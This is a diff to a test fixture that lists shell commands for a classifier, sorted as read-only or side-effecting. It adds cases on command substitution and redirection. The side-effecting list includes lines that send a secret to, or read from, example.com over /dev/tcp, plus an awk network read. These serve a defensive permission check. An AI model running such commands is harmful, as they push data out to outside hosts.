@@ -248,6 +248,7 @@ export const READ_ONLY = [
   "echo ${#arr[@]}",
   "find . -name \"*.log\" -mtime +7",
   "ls\n\n# done\n",
+  "echo \"$(<package.json)\" | head -3",
 ];
 
 /** Commands that change something (or run something not known to be read-only). */
@@ -382,6 +383,8 @@ export const SIDE_EFFECTING = [
   "echo secret > /dev/tcp/example.com/80",
   "awk 'BEGIN { getline line < \"/inet/tcp/0/example.com/80\" }'",
   // names that are properties of every JavaScript object are commands like any other
+  "echo $(>out)",
+  "echo \"$(< /dev/tcp/example.com/80)\"",
   "toString",
   "constructor x",
   "__proto__ x",
